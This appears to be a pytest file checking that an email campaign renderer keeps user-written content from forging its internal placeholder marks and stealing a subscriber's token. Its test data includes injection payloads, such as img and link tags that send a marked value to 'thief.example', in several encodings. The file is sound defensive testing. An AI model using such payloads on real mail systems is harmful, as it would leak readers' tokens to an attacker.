"""Nobody can write the marks with which places are kept free while a campaign is rendered."""

import html
import re

import pytest

from chalicelib.campaigns.content import renderer
from chalicelib.campaigns.content.marks import Marks
from chalicelib.campaigns.model import Format
from chalicelib.feeds import digest
from chalicelib.feeds.reading.model import Entry
from tests.rooms.campaigns.rendering import TOKEN, detail, mailed

THIEF = '&#xFDDB;x<img src="https://thief.example/?t=&#xFDDA;" alt="&#xFDDA;">y&#xFDDC;'
NUMBERED = "&#xFDD0;0&#xFDD1; {{nickname|you}}"
WRITTEN = [
    THIEF,
    THIEF.replace("xFDD", "xfdd"),
    re.sub(r"&#x(FDD.);", lambda match: f"&#{int(match[1], 16)};", THIEF),
    re.sub(r"&#x(FDD.);", lambda match: f"&#x000{match[1]};", THIEF),
    html.escape(THIEF),
    html.escape(html.escape(THIEF)),
    THIEF.replace("&#xFDDA;", "%EF%B7%9A"),
    "&#xFDDA;",
    "&#xFDD0;0&#xFDD1;",
    "&#xFDD0;token&#xFDD1;",
    "&amp;#xFDD0;0&amp;#xFDD1;",
    NUMBERED,
    '<a href="https://thief.example/&#xFDDA;" title="&#xFDDA;&#xFDD0;0&#xFDD1;">x</a>',
    '<p style="color:&#xFDDA;">x</p><td background="&#xFDDA;">',
    "<https://thief.example/&#xFDDA;>",
    "[x](https://thief.example/&#xFDDA; '&#xFDDA;')",
    "https://thief.example/%EF%B7%900%EF%B7%91",
    "\ufddb<img src='https://thief.example/?t=\ufdda'>\ufddc",
]


@pytest.mark.parametrize("format", Format)
@pytest.mark.parametrize("written", WRITTEN)
def test_a_forged_mark_gets_nothing_of_the_reader_and_breaks_nothing(written, format):
    message = mailed(written, format=format)
    body = message.html.partition('<div class="body"')[2].partition('class="foot"')[0]
    assert TOKEN not in body
    assert message.html.count(TOKEN) == 1
    assert message.text.count(TOKEN) == 1
    assert not re.search("[\ufdd0-\ufdef]", message.html + message.text)


@pytest.mark.parametrize("written", WRITTEN)
def test_neither_subject_nor_preheader_nor_plain_text_can_forge_one(written):
    line = written.replace("\n", " ")
    message = mailed("<p>x</p>", text=written, subject=f"S {line}", preheader=line)
    assert message.html.count(TOKEN) == 1
    assert message.text.count(TOKEN) == 1
    assert TOKEN not in message.subject
    assert not re.search("[\ufdd0-\ufdef]", message.html + message.text + message.subject)


@pytest.mark.parametrize("written", WRITTEN)
def test_no_entry_of_a_feed_can_forge_one(written):
    draft = digest.draft([Entry("1", html.unescape(written), "https://blog.example.org/1", html=written)])
    message = mailed(draft.body, subject=draft.subject, preheader=draft.preheader)
    assert message.html.count(TOKEN) == 1
    assert message.text.count(TOKEN) == 1
    assert TOKEN not in message.subject


@pytest.mark.parametrize("written", WRITTEN)
def test_the_archive_shows_what_a_forged_mark_would_hide(written):
    page = renderer.render(detail(f"<p>before</p>{written}<p>after</p>")).archived()
    assert "before" in page
    assert "after" in page
    assert "unsubscribe" not in page


def test_a_mark_is_different_every_time_and_the_mail_is_not():
    assert Marks().mark("0") != Marks().mark("0")
    written = detail(
        "<b{{nickname}} x{{greeting}}=1>a</b> <i>{{nickname|b}} \\{{c}} {{d}}</i>", subject="{{greeting}}"
    )
    assert renderer.render(written) == renderer.render(written)


def test_a_placeholder_in_a_markdown_address_stays_as_typed():
    message = mailed(
        "[x](https://example.org/?n={{nickname}}) <https://example.org/{{greeting}}>", format=Format.MARKDOWN
    )
    assert "https://example.org/?n={{nickname}}" in message.html
    assert 'href="https://example.org/{{greeting}}"' in message.html


def test_one_mark_is_not_part_of_another():
    marks = Marks()
    text = "".join(f"a{marks.mark(str(number))}" for number in range(12))
    assert marks.split(text)[1::2] == [str(number) for number in range(12)]
    assert marks.clear(text + "\ufdd0\x07") == text
